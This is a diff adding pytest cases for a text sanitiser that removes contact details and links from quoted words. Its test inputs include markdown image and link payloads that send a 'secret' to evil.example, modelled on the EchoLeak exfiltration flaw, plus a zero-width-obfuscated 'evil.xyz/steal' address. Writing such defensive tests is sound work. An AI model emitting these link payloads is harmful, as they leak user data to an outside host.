@@ -89,3 +89,17 @@ def test_no_way_to_be_reached_passes(contact: str):
 def test_prices_and_dates_stay(text: str):
     """safety.md: a vendor whose price has seven digits costs the honest path nothing."""
     assert without_contacts(text, 200) == text
+
+
+@pytest.mark.parametrize("text", ["![x](https://evil.example/a.png?d=secret)", "[tu vale](https://evil.example/v?d=)"])
+def test_no_half_of_a_markdown_link_stays_in_quoted_words(text: str) -> None:
+    """EchoLeak (CVE-2025-32711): a markdown image was fetched with a secret in its address."""
+    shown = without_contacts(text, 160)
+    assert not set("[]`") & set(shown)
+    assert "evil" not in shown
+
+
+def test_an_address_of_any_domain_is_taken_out_of_quoted_words() -> None:
+    """Zero-width signs were taken out, and an address with an unlisted ending was left."""
+    assert "evil" not in without_contacts("see e\u200bvil.xyz/steal now", 160)
+    assert without_contacts("4.20 each, 3/4 inch", 160) == "4.20 each, 3/4 inch"
